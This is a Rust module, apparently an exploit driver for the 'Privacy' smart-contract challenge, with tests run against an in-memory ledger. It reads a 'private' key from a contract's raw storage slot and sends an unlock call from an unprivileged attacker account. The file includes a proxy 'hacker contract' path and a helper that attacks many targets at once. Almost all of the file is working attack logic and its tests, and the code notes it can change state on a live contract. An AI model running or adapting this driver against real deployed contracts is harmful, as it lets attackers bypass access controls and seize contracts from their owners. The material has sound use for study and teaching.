//! Exploit Driver
//!
//! Reads a "private" value straight out of a contract's storage and feeds it to
//! the function it guards:
//!
//!   layout lookup → byte-range check → raw slot read → slice
//!     → read lock flag → unlock call from the attacker → re-read lock flag
//!
//! Every step runs once. Nothing is retried: an unlock attempt changes state
//! on a live contract and is not safe to repeat blindly. The byte range is
//! checked against the layout before the ledger is touched.

pub mod errors;
pub mod setup;
pub mod unlock;

pub use errors::AttackError;
pub use setup::{deploy_hacker, deploy_target, DeployedTarget};
pub use unlock::{DirectUnlock, ProxyUnlock, Unlocker};

use alloy_primitives::{Address, B256};
use futures_util::future::join_all;
use serde::Serialize;
use std::ops::Range;
use tracing::{info, warn};

use crate::constants::{
    DEFAULT_KEY_END, DEFAULT_KEY_FIELD, DEFAULT_KEY_START, DEFAULT_LOCK_FIELD, WORD_BYTES,
};
use crate::layout::{SlotLayout, SlotPlacement};
use crate::onchain::{read_flag, Ledger};
use crate::word::{ExtractedValue, Word};

/// What to attack, from where, and which bytes make up the key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackPlan {
    pub target: Address,
    /// Unprivileged sender of the unlock transaction
    pub attacker: Address,
    /// Selector of the value holding the key (`data[2]`)
    pub key_field: String,
    /// Key bytes, relative to the start of `key_field`
    pub key_range: Range<usize>,
    /// Public flag expected to flip on success
    pub lock_field: String,
}

impl AttackPlan {
    /// Plan against the `Privacy` layout: key is the high half of `data[2]`.
    pub fn new(target: Address, attacker: Address) -> Self {
        Self {
            target,
            attacker,
            key_field: DEFAULT_KEY_FIELD.to_string(),
            key_range: DEFAULT_KEY_START..DEFAULT_KEY_END,
            lock_field: DEFAULT_LOCK_FIELD.to_string(),
        }
    }

    pub fn with_key(mut self, field: impl Into<String>, range: Range<usize>) -> Self {
        self.key_field = field.into();
        self.key_range = range;
        self
    }

    pub fn with_lock_field(mut self, field: impl Into<String>) -> Self {
        self.lock_field = field.into();
        self
    }
}

/// A value read out of storage.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Extraction {
    pub field: String,
    pub placement: SlotPlacement,
    /// Byte window inside the slot word that was cut out
    pub absolute_range: Range<usize>,
    pub word: Word,
    pub value: ExtractedValue,
}

/// Result of a successful unlock.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct AttackReport {
    pub target: Address,
    pub attacker: Address,
    pub unlocker: String,
    pub extraction: Extraction,
    pub tx_hash: B256,
    pub lock_before: bool,
    pub lock_after: bool,
}

/// Find `field` in `layout` and turn a field-relative byte range into a range
/// inside the slot word. Pure; no ledger access.
pub fn locate(
    layout: &SlotLayout,
    field: &str,
    range: &Range<usize>,
) -> Result<(SlotPlacement, Range<usize>), AttackError> {
    let placement = layout
        .placement(field)
        .ok_or_else(|| AttackError::UnknownField(field.to_string()))?;

    let out_of_bounds = || AttackError::RangeOutOfBounds {
        field: field.to_string(),
        start: range.start,
        end: range.end,
        width: placement.width,
        offset: placement.offset,
    };
    if range.start >= range.end || range.end > placement.width {
        return Err(out_of_bounds());
    }
    let end = placement
        .offset
        .checked_add(range.end)
        .filter(|end| *end <= WORD_BYTES)
        .ok_or_else(out_of_bounds)?;
    Ok((placement, placement.offset + range.start..end))
}

/// Read `range` of `field` from `target`'s storage, whatever its visibility.
pub async fn peek_field(
    ledger: &dyn Ledger,
    target: Address,
    layout: &SlotLayout,
    field: &str,
    range: Range<usize>,
) -> Result<Extraction, AttackError> {
    let (placement, absolute) = locate(layout, field, &range)?;

    let word = ledger.read_slot(target, placement.slot).await?;
    let value = word.slice(absolute.clone()).map_err(|e| AttackError::RangeOutOfBounds {
        field: field.to_string(),
        start: e.start,
        end: e.end,
        width: placement.width,
        offset: placement.offset,
    })?;
    info!(
        target: "slotbreach::exploit",
        contract = %target, field, slot = %placement.slot, bytes = ?absolute, %value,
        "extracted value from storage"
    );

    Ok(Extraction { field: field.to_string(), placement, absolute_range: absolute, word, value })
}

/// Recover the key from storage, unlock the target with it, and confirm the
/// lock flag actually changed.
pub async fn extract_and_attack(
    ledger: &dyn Ledger,
    layout: &SlotLayout,
    plan: &AttackPlan,
    unlocker: &dyn Unlocker,
) -> Result<AttackReport, AttackError> {
    let extraction =
        peek_field(ledger, plan.target, layout, &plan.key_field, plan.key_range.clone()).await?;

    let lock_before = read_flag(ledger, plan.target, &plan.lock_field).await?;
    let outcome = unlocker
        .unlock(ledger, plan.target, &extraction.value, plan.attacker)
        .await?;
    if !outcome.success {
        warn!(
            target: "slotbreach::exploit",
            contract = %plan.target, tx = %outcome.tx_hash, key = %extraction.value,
            "unlock rejected"
        );
        return Err(AttackError::TransactionRejected {
            target: plan.target,
            tx_hash: outcome.tx_hash,
        });
    }

    let lock_after = read_flag(ledger, plan.target, &plan.lock_field).await?;
    if lock_after == lock_before {
        warn!(
            target: "slotbreach::exploit",
            contract = %plan.target, tx = %outcome.tx_hash, lock = lock_after,
            "unlock accepted but lock flag unchanged"
        );
        return Err(AttackError::AttackIneffective {
            target: plan.target,
            lock_field: plan.lock_field.clone(),
            value: lock_after,
            tx_hash: outcome.tx_hash,
        });
    }

    info!(
        target: "slotbreach::exploit",
        contract = %plan.target, attacker = %plan.attacker, tx = %outcome.tx_hash,
        lock_before, lock_after, via = %unlocker.describe(),
        "target unlocked"
    );
    Ok(AttackReport {
        target: plan.target,
        attacker: plan.attacker,
        unlocker: unlocker.describe(),
        extraction,
        tx_hash: outcome.tx_hash,
        lock_before,
        lock_after,
    })
}

/// Run independent plans concurrently. Each run is still strictly sequential.
pub async fn attack_many(
    ledger: &dyn Ledger,
    layout: &SlotLayout,
    plans: &[AttackPlan],
    unlocker: &dyn Unlocker,
) -> Vec<Result<AttackReport, AttackError>> {
    join_all(plans.iter().map(|plan| extract_and_attack(ledger, layout, plan, unlocker))).await
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::layout::{resolve_with, PackingOrder};
    use crate::onchain::{
        CallOutcome, ContractArtifact, InMemoryLedger, TransportError, PRIVACY_CONTRACT,
    };
    use alloy_primitives::{address, Bytes, U256};
    use async_trait::async_trait;

    const OWNER: Address = address!("f39Fd6e51aad88F6F4ce6aB8827279cffFb92266");
    const ATTACKER: Address = address!("70997970C51812dc3A010C7d01b50e0d17dc79C8");

    fn key_material() -> Vec<Bytes> {
        let mut secret = [0u8; 32];
        for (i, b) in secret.iter_mut().enumerate() {
            *b = 0xa0 + i as u8;
        }
        vec![Bytes::from(vec![0x01; 32]), Bytes::from(vec![0x02; 32]), Bytes::from(secret.to_vec())]
    }

    async fn deployed(ledger: &InMemoryLedger) -> Address {
        ledger
            .deploy(&ContractArtifact::named(PRIVACY_CONTRACT), &key_material(), OWNER)
            .await
            .unwrap()
    }

    async fn locked(ledger: &InMemoryLedger, target: Address) -> bool {
        read_flag(ledger, target, "locked").await.unwrap()
    }

    /// Ledger whose every request fails at the transport level.
    struct UnreachableLedger;

    #[async_trait]
    impl Ledger for UnreachableLedger {
        async fn deploy(
            &self,
            _: &ContractArtifact,
            _: &[Bytes],
            _: Address,
        ) -> Result<Address, TransportError> {
            Err(TransportError::Timeout { method: "eth_sendTransaction" })
        }

        async fn read_slot(&self, _: Address, _: U256) -> Result<Word, TransportError> {
            Err(TransportError::Timeout { method: "eth_getStorageAt" })
        }

        async fn submit_call(&self, _: Address, _: Bytes, _: Address) -> Result<CallOutcome, TransportError> {
            Err(TransportError::Timeout { method: "eth_sendTransaction" })
        }

        async fn read_public_field(&self, _: Address, _: &str) -> Result<B256, TransportError> {
            Err(TransportError::Timeout { method: "eth_call" })
        }
    }

    // =========================================================================
    // locate
    // =========================================================================

    #[test]
    fn test_locate_adds_field_offset() {
        let layout = SlotLayout::privacy();
        let (placement, absolute) = locate(&layout, "awkwardness", &(1..2)).unwrap();
        assert_eq!(placement.slot, U256::from(2));
        assert_eq!(absolute, 3..4);
    }

    #[test]
    fn test_locate_rejects_ranges_past_the_field() {
        let layout = SlotLayout::privacy();
        assert!(matches!(
            locate(&layout, "denomination", &(0..2)),
            Err(AttackError::RangeOutOfBounds { width: 1, offset: 1, .. })
        ));
        assert!(matches!(locate(&layout, "data[2]", &(0..33)), Err(AttackError::RangeOutOfBounds { .. })));
        assert!(matches!(locate(&layout, "data[2]", &(4..4)), Err(AttackError::RangeOutOfBounds { .. })));
        assert!(matches!(locate(&layout, "data[7]", &(0..1)), Err(AttackError::UnknownField(_))));
    }

    #[test]
    fn test_locate_rejects_huge_range_without_overflow() {
        let layout = SlotLayout::privacy();
        assert!(matches!(
            locate(&layout, "denomination", &(0..usize::MAX)),
            Err(AttackError::RangeOutOfBounds { end: usize::MAX, offset: 1, .. })
        ));
        assert!(matches!(
            locate(&layout, "awkwardness", &(usize::MAX - 1..usize::MAX)),
            Err(AttackError::RangeOutOfBounds { .. })
        ));
    }

    // =========================================================================
    // End-to-end against the in-memory ledger
    // =========================================================================

    #[tokio::test]
    async fn test_slot_five_holds_the_key_and_seventeen_bytes_unlock() {
        let ledger = InMemoryLedger::new();
        let target = deployed(&ledger).await;
        let layout = SlotLayout::privacy();

        let peeked = peek_field(&ledger, target, &layout, "data[2]", 0..17).await.unwrap();
        assert_eq!(peeked.placement.slot, U256::from(5));
        assert_eq!(peeked.word.as_slice(), key_material()[2].as_ref());
        assert_eq!(peeked.value.len(), 17);

        assert!(locked(&ledger, target).await);
        let plan = AttackPlan::new(target, ATTACKER).with_key("data[2]", 0..17);
        let report = extract_and_attack(&ledger, &layout, &plan, &DirectUnlock).await.unwrap();

        assert_ne!(report.attacker, OWNER);
        assert!(report.lock_before);
        assert!(!report.lock_after);
        assert!(!locked(&ledger, target).await);
    }

    #[tokio::test]
    async fn test_default_plan_uses_high_half_of_data_2() {
        let ledger = InMemoryLedger::new();
        let target = deployed(&ledger).await;

        let report = extract_and_attack(&ledger, &SlotLayout::privacy(), &AttackPlan::new(target, ATTACKER), &DirectUnlock)
            .await
            .unwrap();
        assert_eq!(report.extraction.value.as_bytes(), &key_material()[2][..16]);
        assert_eq!(report.extraction.absolute_range, 0..16);
    }

    #[tokio::test]
    async fn test_out_of_bounds_range_fails_before_any_request() {
        let ledger = InMemoryLedger::new();
        let target = deployed(&ledger).await;
        let before = ledger.stats().await;

        let plan = AttackPlan::new(target, ATTACKER).with_key("data[2]", 0..33);
        let err = extract_and_attack(&ledger, &SlotLayout::privacy(), &plan, &DirectUnlock)
            .await
            .unwrap_err();

        assert!(matches!(err, AttackError::RangeOutOfBounds { start: 0, end: 33, .. }));
        assert_eq!(ledger.stats().await, before);
    }

    #[tokio::test]
    async fn test_unknown_field_fails_before_any_request() {
        let ledger = InMemoryLedger::new();
        let target = deployed(&ledger).await;
        let before = ledger.stats().await;

        let plan = AttackPlan::new(target, ATTACKER).with_key("secret", 0..16);
        let err = extract_and_attack(&ledger, &SlotLayout::privacy(), &plan, &DirectUnlock)
            .await
            .unwrap_err();
        assert!(matches!(err, AttackError::UnknownField(ref f) if f == "secret"));
        assert_eq!(ledger.stats().await, before);
    }

    #[tokio::test]
    async fn test_wrong_half_is_rejected_and_lock_stays() {
        let ledger = InMemoryLedger::new();
        let target = deployed(&ledger).await;

        let plan = AttackPlan::new(target, ATTACKER).with_key("data[2]", 16..32);
        let err = extract_and_attack(&ledger, &SlotLayout::privacy(), &plan, &DirectUnlock)
            .await
            .unwrap_err();

        assert!(matches!(err, AttackError::TransactionRejected { target: t, .. } if t == target));
        assert!(locked(&ledger, target).await);
    }

    #[tokio::test]
    async fn test_wrong_element_is_rejected() {
        let ledger = InMemoryLedger::new();
        let target = deployed(&ledger).await;

        let plan = AttackPlan::new(target, ATTACKER).with_key("data[1]", 0..16);
        let err = extract_and_attack(&ledger, &SlotLayout::privacy(), &plan, &DirectUnlock)
            .await
            .unwrap_err();
        assert!(matches!(err, AttackError::TransactionRejected { .. }));
    }

    #[tokio::test]
    async fn test_proxy_unlock_through_hacker_contract() {
        let ledger = InMemoryLedger::new();
        let target = deployed(&ledger).await;
        let hacker = deploy_hacker(&ledger, &ContractArtifact::named(crate::onchain::HACKER_CONTRACT), ATTACKER)
            .await
            .unwrap();

        let report = extract_and_attack(
            &ledger,
            &SlotLayout::privacy(),
            &AttackPlan::new(target, ATTACKER),
            &ProxyUnlock::new(hacker),
        )
        .await
        .unwrap();
        assert!(report.unlocker.contains("attack(address,bytes16)"));
        assert!(!locked(&ledger, target).await);
    }

    #[tokio::test]
    async fn test_accepted_call_without_effect_is_ineffective() {
        let ledger = InMemoryLedger::new();
        let target = deployed(&ledger).await;

        // a "proxy" with no code accepts the call and does nothing
        let err = extract_and_attack(
            &ledger,
            &SlotLayout::privacy(),
            &AttackPlan::new(target, ATTACKER),
            &ProxyUnlock::new(Address::repeat_byte(0x99)),
        )
        .await
        .unwrap_err();

        assert!(matches!(err, AttackError::AttackIneffective { value: true, .. }));
        assert!(locked(&ledger, target).await);
    }

    #[tokio::test]
    async fn test_second_unlock_is_ineffective() {
        let ledger = InMemoryLedger::new();
        let target = deployed(&ledger).await;
        let plan = AttackPlan::new(target, ATTACKER);
        let layout = SlotLayout::privacy();

        extract_and_attack(&ledger, &layout, &plan, &DirectUnlock).await.unwrap();
        let err = extract_and_attack(&ledger, &layout, &plan, &DirectUnlock).await.unwrap_err();
        assert!(matches!(err, AttackError::AttackIneffective { value: false, .. }));
    }

    #[tokio::test]
    async fn test_transport_errors_propagate_unmasked() {
        let plan = AttackPlan::new(Address::repeat_byte(1), ATTACKER);
        let err = extract_and_attack(&UnreachableLedger, &SlotLayout::privacy(), &plan, &DirectUnlock)
            .await
            .unwrap_err();
        assert!(matches!(
            err,
            AttackError::Transport(TransportError::Timeout { method: "eth_getStorageAt" })
        ));
    }

    #[tokio::test]
    async fn test_lock_field_without_getter_is_a_transport_error() {
        let ledger = InMemoryLedger::new();
        let target = deployed(&ledger).await;
        let plan = AttackPlan::new(target, ATTACKER).with_lock_field("flattening");

        let err = extract_and_attack(&ledger, &SlotLayout::privacy(), &plan, &DirectUnlock)
            .await
            .unwrap_err();
        assert!(matches!(err, AttackError::Transport(TransportError::NoGetter { .. })));
        assert!(locked(&ledger, target).await);
    }

    #[tokio::test]
    async fn test_attack_many_runs_independent_targets() {
        let ledger = InMemoryLedger::new();
        let first = deployed(&ledger).await;
        let second = deployed(&ledger).await;
        let plans = [
            AttackPlan::new(first, ATTACKER),
            AttackPlan::new(second, ATTACKER).with_key("data[2]", 16..32),
        ];

        let results = attack_many(&ledger, &SlotLayout::privacy(), &plans, &DirectUnlock).await;
        assert!(results[0].is_ok());
        assert!(matches!(results[1], Err(AttackError::TransactionRejected { .. })));
        assert!(!locked(&ledger, first).await);
        assert!(locked(&ledger, second).await);
    }

    #[tokio::test]
    async fn test_packing_order_must_match_the_target() {
        let ledger = InMemoryLedger::with_packing_order(PackingOrder::LsbFirst);
        let target = deployed(&ledger).await;

        let lsb = resolve_with(&SlotLayout::privacy_fields(), PackingOrder::LsbFirst).unwrap();
        let right = peek_field(&ledger, target, &lsb, "flattening", 0..1).await.unwrap();
        assert_eq!(right.value.as_bytes(), &[10]);

        let wrong = peek_field(&ledger, target, &SlotLayout::privacy(), "flattening", 0..1)
            .await
            .unwrap();
        assert_ne!(wrong.value.as_bytes(), &[10]);

        // whole-slot values do not depend on the packing order
        let report = extract_and_attack(&ledger, &lsb, &AttackPlan::new(target, ATTACKER), &DirectUnlock)
            .await
            .unwrap();
        assert!(!report.lock_after);
    }
}
